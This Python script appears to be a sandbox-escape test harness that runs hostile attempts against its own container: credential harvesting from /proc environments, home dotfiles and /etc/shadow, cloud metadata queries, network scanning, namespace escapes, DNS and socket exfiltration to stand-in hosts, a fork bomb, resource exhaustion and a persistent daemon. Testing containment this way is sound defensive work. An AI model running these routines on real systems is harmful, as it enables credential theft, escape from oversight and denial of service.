#!/usr/bin/env python3
"""What code that nobody reviewed might try: `hostile.py ATTEMPT`.

An attempt prints what it got hold of. It exits with 0 when it got something, and with 1 when it did not; an attempt
that means to outlive or to outgrow its sandbox never exits by itself.
"""
import glob
import os
import re
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

# What real keys look like; a placeholder does not.
KEY = re.compile(r"(sk-[A-Za-z0-9-]{16,}|ghp_[A-Za-z0-9]{20,}|AKIA[A-Z0-9]{16}|-----BEGIN [A-Z ]*PRIVATE KEY)")


def got(text):
    print("got:", text)
    sys.exit(0)


def credentials():
    """Keys in the environment, in files of the host, in the memory of other processes."""
    places = ["/proc/*/environ", "/root/.*/*", "/root/.*", "/home/*/.*/*", "/home/*/.*", "/etc/shadow", "/etc/ssl/private/*",
              "/run/secrets/**", "/var/run/secrets/**", "/var/lib/cerco/**"]
    for place in places:
        for path in glob.glob(place, recursive=True):
            try:
                text = open(path, "rb").read(1 << 20).decode(errors="replace")
            except OSError:
                continue
            found = KEY.search(text) or (path == "/etc/shadow" and "root:" in text and text)
            if found:
                got(f"{path}: {str(found)[:40]}")
    for value in os.environ.values():
        if KEY.search(value):
            got("a key in the environment")


def placeholder():
    """The placeholder of a credential, sent to a place that it is not bound to."""
    request = urllib.request.Request("http://host.cerco.internal:8877/v2/admin",
                                     headers={"Authorization": "Bearer " + os.environ.get("REPORTS_API_KEY", "")})
    try:
        got(urllib.request.urlopen(request, timeout=10).read(60))
    except urllib.error.HTTPError as error:
        print("refused:", error.code, error.headers.get("X-Cerco-Deny"))


def metadata():
    """The cloud's credentials endpoint."""
    for url in ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/",
                "http://[fd00:ec2::254]/latest/meta-data/"):
        try:
            got(urllib.request.urlopen(url, timeout=5).read(60))
        except OSError as error:
            print(url, "->", error)


def scan():
    """Neighbours: private ranges, the host's own services, other sandboxes."""
    for host in ("10.0.0.1", "10.96.0.1", "172.17.0.1", "192.168.0.1", "192.168.1.1", "127.0.0.1", "198.18.0.1", "100.64.0.1"):
        for port in (22, 80, 443, 2375, 5432, 6379, 6443, 8080, 10250):
            with socket.socket() as probe:
                probe.settimeout(2)
                if probe.connect_ex((host, port)) == 0:
                    got(f"{host}:{port} is open")
    print("nothing answers")


def file_system():
    """Out of the tree: the host's files, devices, mounts."""
    for path in ("/proc/1/root/etc/shadow", "/../../../etc/shadow", "/dev/sda", "/dev/vda", "/dev/mem", "/proc/kcore", "/proc/sysrq-trigger"):
        try:
            if open(path, "rb").read(16):
                got(path)
        except OSError as error:
            print(path, "->", error.strerror)
    for path in ("/usr/bin/cerco-was-here", "/etc/cerco-was-here", "/proc/sys/kernel/core_pattern"):
        try:
            open(path, "w").write("x")
            got(f"wrote {path}")
        except OSError as error:
            print(path, "->", error.strerror)
    for command in (["mount", "-t", "tmpfs", "x", "/mnt"], ["unshare", "-Ur", "id"], ["nsenter", "-t", "1", "-a", "id"], ["chroot", "/", "id"]):
        try:
            if subprocess.run(command, capture_output=True).returncode == 0:
                got(" ".join(command))
        except OSError as error:
            print(command[0], "->", error.strerror)


def dns():
    """Data carried out in the names that are looked up."""
    for i in range(20):
        try:
            got(socket.getaddrinfo(f"{os.urandom(16).hex()}.{i}.exfiltration.example", 443))
        except socket.gaierror as error:
            print("name", i, "->", error.strerror)


def exfiltrate():
    """Data sent to a server of the attacker's, by address and by datagram."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as out:
            out.settimeout(5)
            try:
                out.connect(("203.0.113.7", 443))
                out.send(b"secret")
                out.send(b"secret")
                if out.recv(1):
                    got("an answer")
            except OSError as error:
                print("->", error)


def memory():
    """All of the memory."""
    held = []
    while True:
        held.append(bytearray(b"x") * (16 << 20))
        if len(held) > 256:
            got("4 GiB")


def processes():
    """A fork bomb."""
    started = 0
    try:
        while started < 5000:
            if os.fork() == 0:
                time.sleep(600)
            started += 1
    except OSError as error:
        print("after", started, "processes ->", error.strerror)
        sys.exit(1)
    got("5000 processes")


def disk():
    """All of the disk."""
    try:
        with open("/workspace/fill", "wb") as out:
            for _ in range(4096):
                out.write(b"x" * (1 << 20))
    except OSError as error:
        print("->", error.strerror)
        sys.exit(1)
    got("4 GiB")


def outlive():
    """A daemon that goes on after the end."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (1, 2, 15):
                import signal
                signal.signal(number, signal.SIG_IGN)
            os.execvp("sleep", ["sleep", "8877"])
        os._exit(0)
    print("a daemon was left behind")
    sys.exit(1)


def forever():
    """Never to end."""
    import signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        time.sleep(1)


ATTEMPTS = {f.__name__: f for f in (credentials, placeholder, metadata, scan, file_system, dns, exfiltrate, memory, processes, disk,
                                    outlive, forever)}

if __name__ == "__main__":
    if len(sys.argv) != 2 or sys.argv[1] not in ATTEMPTS:
        sys.exit("usage: hostile.py " + "|".join(ATTEMPTS))
    ATTEMPTS[sys.argv[1]]()
    sys.exit(1)
